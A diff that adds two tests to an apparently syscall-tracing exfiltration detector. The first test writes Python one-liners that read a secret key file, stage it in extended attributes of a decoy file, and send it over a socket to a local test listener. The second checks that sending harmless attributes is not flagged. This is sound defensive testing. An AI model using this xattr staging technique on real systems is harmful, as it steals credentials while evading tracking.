@@ -211,6 +211,31 @@ s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(data); s.clo
     }
   });
 
+  it('staging through an extended attribute: one process puts the secret in an xattr (path and descriptor calls), another takes it out and sends it', async () => {
+    const d = join(dir, 'xattr');
+    mkdirSync(d, { recursive: true });
+    const stage = join(d, 'notes.txt');
+    writeFileSync(stage, 'nothing here\n');
+    const put = `import os; d = open("${key}", "rb").read(); os.setxattr("${stage}", "user.a", d[:300]); f = os.open("${stage}", os.O_RDONLY); os.setxattr(f, "user.b", d[300:600])`;
+    const take = `import os, socket; f = os.open("${stage}", os.O_RDONLY); d = os.getxattr("${stage}", "user.a") + os.getxattr(f, "user.b"); s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(d); s.close()`;
+    const r = await h.run('xattr', `python3 -c '${put}' && python3 -c '${take}'`);
+    expect(r.code, r.stderr).toBe(0);
+    const xa = ofKind(r.events, 'file.xattr').map((e) => [e.syscall, e.op, e.bytes, e.obj !== null]);
+    expect(xa).toEqual([['setxattr', 'set', 300, true], ['fsetxattr', 'set', 300, true], ['getxattr', 'get', 300, true], ['fgetxattr', 'get', 300, true]]);
+    const f = only(r.findings);
+    expect(f.source).toMatchObject({ path: key, data_class: 'secret' });
+    expect(f.chain.map((c) => c.syscall)).toEqual(['read', 'setxattr', 'getxattr', 'sendto']);
+    expect(f.chain[1]!.object).toBe(`xattr of ${stage}`);
+  });
+
+  it('must not fire: the extended attributes of a secret file are not the secret (set by a process that read nothing, read and sent by another)', async () => {
+    const { k } = ownKey('xattr-own');
+    const r = await h.run('xattr-own', `python3 -c 'import os; os.setxattr("${k}", "user.note", b"rotate me monthly")' && python3 -c 'import os, socket; d = os.getxattr("${k}", "user.note"); s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(d); s.close()'`);
+    expect(r.code, r.stderr).toBe(0);
+    expect(ofKind(r.events, 'file.xattr')).toHaveLength(2);
+    expect(r.findings).toEqual([]);
+  });
+
   it('must not fire: a hard link of an ordinary file, sent', async () => {
     const d = join(dir, 'plain-link');
     mkdirSync(d, { recursive: true });
